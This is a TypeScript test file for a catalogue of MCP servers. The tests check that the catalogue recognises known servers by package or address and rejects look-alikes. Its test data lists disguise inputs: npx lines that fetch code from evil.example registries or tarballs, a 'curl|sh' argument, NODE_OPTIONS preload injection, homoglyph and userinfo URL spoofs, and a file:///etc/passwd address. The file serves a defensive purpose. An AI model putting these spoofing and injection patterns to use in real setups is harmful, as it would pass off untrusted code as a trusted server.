// Servers of the catalogue: known by package and address, graded by their MCP access, compared.
import assert from 'node:assert/strict'
import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import test, { after, before } from 'node:test'
import { configured, reached, started } from '../../../test/configured-server.ts'
import type { ConfiguredServer } from '../../stack/config/configured-server.ts'
import { proofOf } from '../../stack/identity.ts'
import { CatalogueServers } from './catalogue-servers.ts'
import { cataloguePolicy, stackPolicy } from './policy.ts'

const folder = mkdtempSync(join(tmpdir(), 'agentgrade-catalogue-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const shipped = join(import.meta.dirname, '../../../catalogue')
let catalogue: CatalogueServers

before(async () => {
  mkdirSync(join(folder, 'captured'))
  for (const slug of ['brave-search', 'exa', 'linear', 'shopify', 'groq'])
    cpSync(join(shipped, `${slug}.json`), join(folder, `${slug}.json`))
  for (const name of ['brave-search.mcp', 'exa.mcp', 'exa.openapi', 'shopify.mcp'])
    cpSync(
      join(shipped, `captured/${name}.evidence.json`),
      join(folder, `captured/${name}.evidence.json`),
    )
  catalogue = await CatalogueServers.open(folder)
})

const find = (server: ConfiguredServer) => catalogue.find(proofOf(server))

const identity = (server: ConfiguredServer) => proofOf(server).identity

test('what a server is looked up by is a package or an address, and no argument', () => {
  assert.deepEqual(identity(reached('https://A.example:443/mcp')), {
    kind: 'address',
    address: 'https://a.example/mcp',
  })
  for (const odd of ['https://${HOST}/mcp', 'file:///etc/passwd', 'https://a.example/mcp#x'])
    assert.equal(identity(reached(odd)), null, odd)
  assert.deepEqual(identity(started('npx', 'mcp-remote', 'https://mcp.exa.ai/mcp')), {
    kind: 'address',
    address: 'https://mcp.exa.ai/mcp',
  })
  const npm = { kind: 'package', registry: 'npm', name: 'a', version: '1.0.0' }
  assert.deepEqual(identity(started('npx', '-y', 'a@1.0.0', '--key', 'x')), npm)
  const pypi = { kind: 'package', registry: 'pypi', name: 'exa-mcp-server', version: null }
  assert.deepEqual(identity(started('uvx', 'Exa_MCP.server')), pypi)
})

const KNOWN = 'exa-mcp-server'
const ADDRESS = 'https://mcp.exa.ai/mcp'
/** Somebody else's code or service under the name of a known server. */
const DISGUISES: readonly string[][] = [
  `npx ${KNOWN}@npm:evil@1.0.0`,
  `npx ${KNOWN}@https://evil.example/a.tgz`,
  `npx ${KNOWN}@file:../evil`,
  `npx ${KNOWN}@github:evil/evil`,
  `npx ${KNOWN}@git+ssh://git@evil.example/a.git`,
  `npx --registry https://evil.example ${KNOWN}`,
  `npx --registry=https://evil.example ${KNOWN}`,
  `npx -p ${KNOWN} -c curl|sh`,
  `npx -p ${KNOWN} evil`,
  `npx --package=${KNOWN} --package=evil evil`,
  `npx --call evil ${KNOWN}`,
  `npx --prefix /tmp/evil ${KNOWN}`,
  `npx --userconfig ${KNOWN} evil`,
  `npx --node-options=--require=/tmp/evil.js ${KNOWN}`,
  `npx ${KNOWN}@latest-evil`,
  `npx ${KNOWN}@^3`,
  `./npx ${KNOWN}`,
  `/tmp/npx ${KNOWN}`,
  `NPX ${KNOWN}`,
  `NODE_OPTIONS=--require=/tmp/evil.js npx ${KNOWN}`,
  `env npm_config_registry=https://evil.example npx ${KNOWN}`,
  `sh -c npx ${KNOWN}`,
  `npm exec --registry=https://evil.example -- ${KNOWN}`,
  `npx ./${KNOWN}`,
  `npx evil/${KNOWN}`,
  `npx -y ${KNOWN.replace('a', '\u0430')}`,
  `npx mcp-remote --resource ${ADDRESS} https://evil.example/mcp`,
  `npx mcp-remote https://evil.example/mcp ${ADDRESS}`,
].map((line) => line.split(' '))
const ADDRESSES = [
  'https://*@mcp.exa.ai/mcp',
  'https://ann@mcp.exa.ai/mcp',
  'https://mcp.exa.ai:8443/mcp',
  'https://mcp.ex\u0430.ai/mcp',
  'https://mcp.exa.ai\u3002evil.example/mcp',
  'https://mcp.exa.ai@evil.example/mcp',
  'https://mcp.exa.ai\\@evil.example/mcp',
  'https://mcp.*.ai/mcp',
  'https://mcp.exa.ai/*',
  'https://mcp.exa.ai/mcp/',
  'https://mcp.exa.ai/mcp?exaApiKey=1',
  'http://mcp.exa.ai/mcp',
]

const LOADED = [
  'NODE_OPTIONS',
  'npm_config_x',
  'npm_config_key',
  'OPENSSL_CONF',
  'GCONV_PATH',
  'LOCPATH',
  'SSL_CERT_FILE',
  'HTTPS_PROXY',
  'SSH_ASKPASS',
  'JAVA_TOOL_OPTIONS',
  'WHATEVER_IS_NEXT',
  '_',
]

const emptyPair = (name: string) => ({ name, value: '', line: 1 })

test('nothing that only looks like a known server has its grade or its place in a policy', async () => {
  const given = [
    ...DISGUISES.map((words) => started(...words)),
    ...ADDRESSES.map((url) => reached(url)),
    ...LOADED.map((name) => ({ ...started('npx', KNOWN), env: [emptyPair(name)] })),
    { ...started('npx', KNOWN), envNames: [{ text: 'PATH', line: 1 }] },
    { ...started('npx', KNOWN), clientVariables: [{ name: 'NODE_OPTIONS', file: '/s', line: 1 }] },
    reached(ADDRESS, [emptyPair('Host')]),
    started('npx', 'mcp-remote', ADDRESS, '--header', 'Host: evil.example'),
    configured({
      ...started('npx', KNOWN),
      doubts: [{ doubt: 'beside', name: '.npmrc', file: '/w/.npmrc', line: 1 }],
    }),
  ].map((each, index) => ({ ...each, name: `server-${index}` }))
  for (const server of given)
    assert.equal((await find(server)).known, null, JSON.stringify([server.command, server.url]))
  const { allowed, denied } = await stackPolicy(given, catalogue, {
    least: 'F',
    isVerified: false,
  })
  assert.deepEqual([...allowed, ...denied], [])
})

test('the ordinary ways to start a known server are proven', async () => {
  for (const line of [
    `npx ${KNOWN}`,
    `npx -y ${KNOWN}@latest --tools all`,
    `npx --yes ${KNOWN}@3.4.1`,
    `npm exec -y -- ${KNOWN}`,
    `pnpm dlx ${KNOWN}`,
    `bunx ${KNOWN}`,
    `cmd /c npx -y ${KNOWN}`,
    `env EXA_API_KEY=x EXA_BASE=y OTHER_TOKEN=z LOG_LEVEL=debug PORT=1 npx -y ${KNOWN}`,
    `npx -y mcp-remote@0.1.0 ${ADDRESS} --header Authorization:y`,
  ])
    assert.equal((await find(started(...line.split(' ')))).known?.slug, 'exa', line)
  assert.equal((await find(started('sh', '-c', `npx -y ${KNOWN}`))).known?.slug, 'exa')
  const key = { name: 'Authorization', value: 'Bearer x', line: 1 }
  assert.equal((await find(reached(ADDRESS, [key]))).known?.slug, 'exa')
})

const of = (word: string) => find(started('npx', '-y', word))

test('a grade belongs to the version that was looked at', async () => {
  assert.equal((await of(`${KNOWN}@3.4.1`)).known?.agreement, 'same')
  for (const word of [KNOWN, `${KNOWN}@latest`])
    assert.equal((await of(word)).known?.agreement, 'newest', word)
  assert.deepEqual(await of(`${KNOWN}@3.4.0`), { known: null, lookedAt: '3.4.1', doubts: [] })
  const { allowed, denied, leftOut } = await stackPolicy(
    [started('npx', '-y', `${KNOWN}@3.4.0`)],
    catalogue,
    { least: 'F', isVerified: false },
  )
  assert.deepEqual([allowed, denied], [[], []])
  assert.match(leftOut[0]?.why ?? '', /another version of it was looked at \(3\.4\.1\)/)
})

test('a line that a shell reads is in no policy, however plain it is', async () => {
  const lines = [started('cmd', '/c', 'npx', '-y', KNOWN), started('sh', '-c', `npx -y ${KNOWN}`)]
  const lists = await stackPolicy(lines, catalogue, { least: 'F', isVerified: false })
  assert.deepEqual([lists.allowed, lists.denied], [[], []])
  assert.deepEqual(
    lists.leftOut.map(({ why }) => why),
    ['a shell reads its line', 'a shell reads its line'],
  )
  const bridge = started('npx', '-y', 'mcp-remote', ADDRESS)
  const { allowed } = await stackPolicy([bridge], catalogue, { least: 'F', isVerified: false })
  assert.deepEqual(allowed, [
    { name: 'acme', url: null, command: ['npx', '-y', 'mcp-remote', ADDRESS] },
  ])
})

const pair = (name: string) => ({ name, value: 'x', line: 1 })

test('headers and variables that the record of the tool names are known', async () => {
  // Its API takes the key in this header.
  const record = await find(reached(ADDRESS, [pair('x-api-key')]))
  assert.equal(record.known?.slug, 'exa')
  const other = await find(reached(ADDRESS, [pair('X-Route')]))
  assert.equal(other.known, null)
  assert.deepEqual(
    other.doubts.map(({ doubt, name }) => [doubt, name]),
    [['header', 'X-Route']],
  )
})

test('a package has its tools and its version, an address only the grade', async () => {
  const local = (await find(started('npx', '-y', 'exa-mcp-server'))).known
  assert.equal(local?.slug, 'exa')
  assert.equal(local?.tools?.length, 2)
  assert.match(local?.version ?? '', /^\d+\.\d+/)
  const hosted = (await find(reached(ADDRESS))).known
  assert.deepEqual([hosted?.letter, hosted?.tools, hosted?.version], [local?.letter, null, null])
  assert.equal((await find(started('npx', 'exa-mcp'))).known, null)
  assert.equal((await find(reached('https://mcp.exa.ai/other'))).known, null)
})

test('better servers are graded better and do what this one does first of all', async () => {
  const better = await catalogue.better('brave-search', 'C+')
  assert.deepEqual(
    better.map(({ slug }) => slug),
    ['exa'],
  )
  const [first] = await catalogue.better('brave-search', 'B')
  assert.equal(first?.slug, 'exa', 'its texts are read, so it may be above what is estimated')
  assert.deepEqual(await catalogue.better('brave-search', 'B+'), [])
  assert.deepEqual(await catalogue.better('exa', 'A'), [])
  assert.deepEqual(await catalogue.better('brave-search', null), [])
})

test('the catalogue as a policy: one matcher per entry, no address with a placeholder', async () => {
  const { allowed, denied, leftOut } = await cataloguePolicy(catalogue, {
    least: 'B',
    isVerified: false,
  })
  assert.deepEqual(
    allowed.map(({ url, command }) => url ?? command?.join(' ')),
    ['npx -y @brave/brave-search-mcp-server', 'https://mcp.exa.ai/mcp', 'npx -y exa-mcp-server'],
  )
  assert.deepEqual(
    denied.map(({ name }) => name),
    ['shopify'],
  )
  assert.deepEqual(
    leftOut.map(({ name }) => name),
    ['linear'],
  )
})
